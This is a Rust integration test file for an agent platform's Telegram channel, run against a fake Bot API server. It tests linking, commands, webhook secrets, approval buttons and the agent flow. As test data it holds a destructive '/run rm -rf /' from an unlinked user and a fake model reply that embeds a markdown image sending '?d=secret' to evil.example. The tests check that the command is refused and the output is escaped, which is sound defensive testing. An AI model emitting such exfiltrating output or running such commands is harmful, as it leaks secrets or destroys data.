//! The Telegram channel through the real binary against a fake Bot API server that speaks the
//! real JSON: polling (the admin links their account with the `org init` link code, runs a
//! command, sees its id and then its result; an unlinked user gets only the refusal; a
//! redelivered update changes nothing) and webhook mode (secret checked, update acknowledged,
//! duplicates ignored). The bot token never appears in the server's log.

use std::time::Duration;

use agent::llm::WireFormat;
use agent::llm::testing::{FakeLlm, Reply};
use serde_json::{Value, json};
use telegram::testing::{FakeBotApi, text_update};

use crate::support::{Deployment, Server};

const TOKEN: &str = "123456:TEST-token-never-logged";
const WITHIN: Duration = Duration::from_secs(30);
const ADMIN_TG: i64 = 9001;

/// Waits until a delivered message contains `needle`; returns it.
async fn delivered_containing(fake: &FakeBotApi, needle: &str) -> String {
    let deadline = std::time::Instant::now() + WITHIN;
    loop {
        if let Some(t) = fake
            .delivered_texts()
            .into_iter()
            .find(|t| t.contains(needle))
        {
            return t;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no message containing {needle:?}; delivered: {:#?}",
            fake.delivered_texts()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Waits until the text of an `editMessageText` call contains `needle`; returns it.
async fn edited_containing(fake: &FakeBotApi, needle: &str) -> String {
    crate::support::eventually(
        WITHIN,
        &format!("an edit containing {needle:?}"),
        || async {
            fake.calls_to("editMessageText")
                .iter()
                .filter_map(|b| b["text"].as_str())
                .find(|t| t.contains(needle))
                .map(str::to_owned)
        },
    )
    .await
}

/// The Approve button's callback data of the first delivered approval request, and that
/// message's id (the fake numbers delivered messages from 1001 in order).
fn approve_button(fake: &FakeBotApi) -> (String, i64) {
    let delivered = fake.delivered();
    let (index, call) = delivered
        .iter()
        .enumerate()
        .find(|(_, c)| c.body["text"].as_str().is_some_and(|t| t.contains("apr_")))
        .expect("the approval request");
    let approve = call.body["reply_markup"]["inline_keyboard"][0]
        .as_array()
        .and_then(|b| {
            b.iter()
                .find(|b| b["text"].as_str().is_some_and(|t| t.contains("Approve")))
        })
        .and_then(|b| b["callback_data"].as_str())
        .expect("an Approve button")
        .to_owned();
    (approve, 1001 + index as i64)
}

fn telegram_deployment(fake: &FakeBotApi) -> Deployment {
    Deployment::new()
        .with_workers(2)
        .var("AGENTICAI_TELEGRAM_BOT_TOKEN", TOKEN)
        .var("AGENTICAI_TELEGRAM_API_URL", &fake.base_url())
}

#[tokio::test]
async fn polling_onboards_the_admin_runs_a_command_and_relays_its_result() {
    let fake = FakeBotApi::start(TOKEN).await;
    let server = Server::start_with(telegram_deployment(&fake)).await;
    let org = server.org_init();

    // The commands are registered and the webhook is cleared before polling.
    fake.wait_for_calls("setMyCommands", 1, WITHIN).await;
    fake.wait_for_calls("deleteWebhook", 1, WITHIN).await;

    // An unlinked user: the refusal, nothing else.
    fake.push_update(text_update(1, 4242, "/run rm -rf /"));
    let refusal = delivered_containing(&fake, "/start").await;
    assert!(!refusal.contains("tsk_"), "{refusal}");

    // The admin links their Telegram with the link code from `org init`.
    fake.push_update(text_update(
        2,
        ADMIN_TG,
        &format!("/start {}", org.admin_link_code),
    ));
    delivered_containing(&fake, "Linked").await;

    // /run: answered at once with the task id, then the result.
    let run = text_update(3, ADMIN_TG, "/run echo hello from telegram");
    fake.push_update(run.clone());
    let accepted = delivered_containing(&fake, "tsk_").await;
    let task_id = accepted
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        .find(|w| w.starts_with("tsk_"))
        .expect("a task id")
        .to_owned();
    let result = delivered_containing(&fake, "hello from telegram").await;
    assert!(result.contains(&task_id), "{result}");

    // The same update delivered again creates nothing new.
    fake.push_update(run);
    fake.push_update(text_update(4, ADMIN_TG, "/tasks"));
    delivered_containing(&fake, "SUCCEEDED").await;
    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
    assert_eq!(
        tasks.expect(200)["tasks"].as_array().unwrap().len(),
        1,
        "a redelivered update makes no second task"
    );
    let task = server
        .get(&format!("/v1/tasks/{task_id}"), Some(&org.admin_token))
        .await;
    assert_eq!(task.expect(200)["user_id"], org.admin_user_id.as_str());

    assert!(
        !server.log_text().contains(TOKEN),
        "the bot token is in the log"
    );
    assert!(
        !server.log_text().contains("TEST-token"),
        "the bot token is in the log"
    );
}

#[tokio::test]
async fn webhook_checks_the_secret_and_acknowledges_each_update_once() {
    let fake = FakeBotApi::start(TOKEN).await;
    let secret = "webhook-secret_0123456789";
    let dep = telegram_deployment(&fake)
        .var("AGENTICAI_TELEGRAM_MODE", "webhook")
        .var("AGENTICAI_TELEGRAM_WEBHOOK_SECRET", secret)
        .var(
            "AGENTICAI_TELEGRAM_WEBHOOK_URL",
            "https://bot.example.com/telegram/webhook",
        );
    let server = Server::start_with(dep).await;
    server.org_init();
    let registered = fake.wait_for_calls("setWebhook", 1, WITHIN).await;
    assert_eq!(registered[0]["secret_token"], secret, "{registered:?}");

    let post = |secret: Option<&'static str>, body: Value| {
        let mut request = server
            .client()
            .post(server.url("/telegram/webhook"))
            .json(&body);
        if let Some(s) = secret {
            request = request.header("X-Telegram-Bot-Api-Secret-Token", s);
        }
        request.send()
    };
    let update = text_update(10, 555, "/help");
    let none = post(None, update.clone()).await.unwrap();
    assert_eq!(none.status().as_u16(), 401);
    let wrong = post(Some("wrong"), update.clone()).await.unwrap();
    assert_eq!(wrong.status().as_u16(), 401);
    for _ in 0..5 {
        let ok = post(Some("webhook-secret_0123456789"), update.clone())
            .await
            .unwrap();
        assert_eq!(ok.status().as_u16(), 200);
    }
    delivered_containing(&fake, "Joining").await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(
        fake.delivered().len(),
        1,
        "one reply for one update: {:#?}",
        fake.delivered_texts()
    );
    // Unknown update kinds and garbage are acknowledged, never an error loop.
    let odd = post(
        Some("webhook-secret_0123456789"),
        json!({"update_id": 11, "poll": {}}),
    )
    .await
    .unwrap();
    assert_eq!(odd.status().as_u16(), 200);
}

#[tokio::test]
async fn the_webhook_route_is_404_in_polling_mode() {
    let fake = FakeBotApi::start(TOKEN).await;
    let server = Server::start_with(telegram_deployment(&fake)).await;
    let r = server
        .post("/telegram/webhook", None, &text_update(1, 1, "/help"))
        .await;
    r.expect_error(404, None);
}

/// Reliability: `kill -9` right after an update was acknowledged — its effect happens exactly
/// once and its reply arrives after the restart (at least once).
#[tokio::test]
async fn kill_9_between_receiving_an_update_and_replying_loses_nothing() {
    let fake = FakeBotApi::start(TOKEN).await;
    let secret = "webhook-secret_0123456789";
    let dep = telegram_deployment(&fake)
        .var("AGENTICAI_TELEGRAM_MODE", "webhook")
        .var("AGENTICAI_TELEGRAM_WEBHOOK_SECRET", secret);
    let mut server = Server::start_with(dep).await;
    let org = server.org_init();
    let post = |server: &Server, body: Value| {
        server
            .client()
            .post(server.url("/telegram/webhook"))
            .header("X-Telegram-Bot-Api-Secret-Token", secret)
            .json(&body)
            .send()
    };
    let link = post(
        &server,
        text_update(1, ADMIN_TG, &format!("/start {}", org.admin_link_code)),
    )
    .await
    .unwrap();
    assert_eq!(link.status().as_u16(), 200);
    delivered_containing(&fake, "Linked").await;

    let run = post(&server, text_update(2, ADMIN_TG, "/run echo exactly once"))
        .await
        .unwrap();
    assert_eq!(run.status().as_u16(), 200);
    server.kill();
    server.restart().await;

    delivered_containing(&fake, "exactly once").await;
    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
    let tasks = tasks.expect(200)["tasks"].as_array().unwrap().clone();
    assert_eq!(
        tasks.len(),
        1,
        "the update's effect happened once: {tasks:?}"
    );
}

/// A destructive command from chat waits for approval; the requester presses Approve; it runs
/// and the result comes back. Another user's press on the same button changes nothing.
#[tokio::test]
async fn approval_buttons_in_chat_decide_like_the_api() {
    let fake = FakeBotApi::start(TOKEN).await;
    let server = Server::start_with(telegram_deployment(&fake)).await;
    let org = server.org_init();
    fake.push_update(text_update(
        1,
        ADMIN_TG,
        &format!("/start {}", org.admin_link_code),
    ));
    delivered_containing(&fake, "Linked").await;

    fake.push_update(text_update(
        2,
        ADMIN_TG,
        "/run rm -rf build && echo cleaned",
    ));
    let request = delivered_containing(&fake, "apr_").await;
    assert!(request.contains("rm -rf build"), "{request}");
    let (approve, message_id) = approve_button(&fake);

    // A forged press by someone else: answered, nothing decided.
    fake.push_update(telegram::testing::callback_update(
        3, 7777, &approve, message_id,
    ));
    fake.wait_for_calls("answerCallbackQuery", 1, WITHIN).await;
    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
    assert_eq!(tasks.expect(200)["tasks"][0]["status"], "WAITING_APPROVAL");

    // The requester's press approves; the task runs and the result arrives.
    fake.push_update(telegram::testing::callback_update(
        4, ADMIN_TG, &approve, message_id,
    ));
    let result = delivered_containing(&fake, "finished").await;
    assert!(result.contains("cleaned"), "{result}");
    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
    let task = tasks.expect(200)["tasks"][0].clone();
    assert_eq!(task["status"], "SUCCEEDED", "{task}");
    assert!(
        fake.calls_to("answerCallbackQuery").len() >= 2,
        "every press is answered"
    );
}

/// The agent in Telegram through the real binary (done-means of the agent issue): free text is a
/// request to the agent; the status message shows the plan and the commands; the mutating step
/// arrives as an approval request with buttons; a press lets it run; the answer arrives escaped,
/// with link previews off, so model output cannot render markup, links or remote images.
async fn free_text_reaches_the_agent(format: WireFormat) {
    let llm = FakeLlm::start(format, Some(crate::support::FAKE_LLM_KEY)).await;
    // The model takes its time over the first step: chat must answer meanwhile.
    llm.push(Reply::Delayed(
        Duration::from_secs(3),
        Box::new(Reply::ToolCalls {
            text: Some("First I look at the disk.".into()),
            calls: vec![("c1".into(), "shell".into(), json!({"command": "df -h /"}))],
        }),
    ));
    llm.push(Reply::tool_call(
        "c2",
        "shell",
        json!({"command": "echo ok > /workspace/report.txt"}),
    ));
    llm.push(Reply::text(
        "Done. <b>Disk</b> is fine ![x](https://evil.example/p.png?d=secret)",
    ));
    let fake = FakeBotApi::start(TOKEN).await;
    let server = Server::start_with(telegram_deployment(&fake).with_llm(&llm)).await;
    let org = server.org_init();
    fake.push_update(text_update(
        1,
        ADMIN_TG,
        &format!("/start {}", org.admin_link_code),
    ));
    delivered_containing(&fake, "Linked").await;

    fake.push_update(text_update(
        2,
        ADMIN_TG,
        "check the disk and write a report",
    ));
    delivered_containing(&fake, "tsk_").await;
    // Chat stays responsive while the agent plans: /status is answered before the first step.
    fake.push_update(text_update(3, ADMIN_TG, "/status"));
    let status = delivered_containing(&fake, "<b>Status</b>").await;
    assert!(
        status.contains("tsk_"),
        "the running agent task is listed: {status}"
    );
    assert!(
        !fake
            .calls_to("editMessageText")
            .iter()
            .any(|b| b["text"].as_str().is_some_and(|t| t.contains("df -h"))),
        "answered while the model was still thinking"
    );
    let request = delivered_containing(&fake, "apr_").await;
    assert!(
        request.contains("echo ok &gt; /workspace/report.txt")
            || request.contains("echo ok > /workspace/report.txt"),
        "{request}"
    );
    // The status message is edited to show the plan and the read-only command.
    let edit = edited_containing(&fake, "df -h /").await;
    assert!(edit.contains("First I look at the disk."), "{edit}");

    let (approve, message_id) = approve_button(&fake);
    fake.push_update(telegram::testing::callback_update(
        4, ADMIN_TG, &approve, message_id,
    ));
    let answer = delivered_containing(&fake, "Disk").await;
    assert!(answer.contains("&lt;b&gt;Disk&lt;/b&gt;"), "{answer}");
    assert!(!answer.contains("<a "), "{answer}");
    let answer_call = fake
        .calls_to("sendMessage")
        .into_iter()
        .find(|b| b["text"].as_str().is_some_and(|t| t.contains("Disk")))
        .expect("the answer was sent");
    let previews_off = answer_call["link_preview_options"]["is_disabled"] == true
        || answer_call["disable_web_page_preview"] == true;
    assert!(previews_off, "{answer_call}");
    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
    let task = tasks.expect(200)["tasks"][0].clone();
    assert_eq!(task["status"], "SUCCEEDED", "{task}");
    assert_eq!(task["kind"], "agent");
}

#[tokio::test]
async fn free_text_reaches_the_agent_which_asks_before_changing_anything_openai() {
    free_text_reaches_the_agent(WireFormat::OpenAi).await;
}

#[tokio::test]
async fn free_text_reaches_the_agent_which_asks_before_changing_anything_anthropic() {
    free_text_reaches_the_agent(WireFormat::Anthropic).await;
}
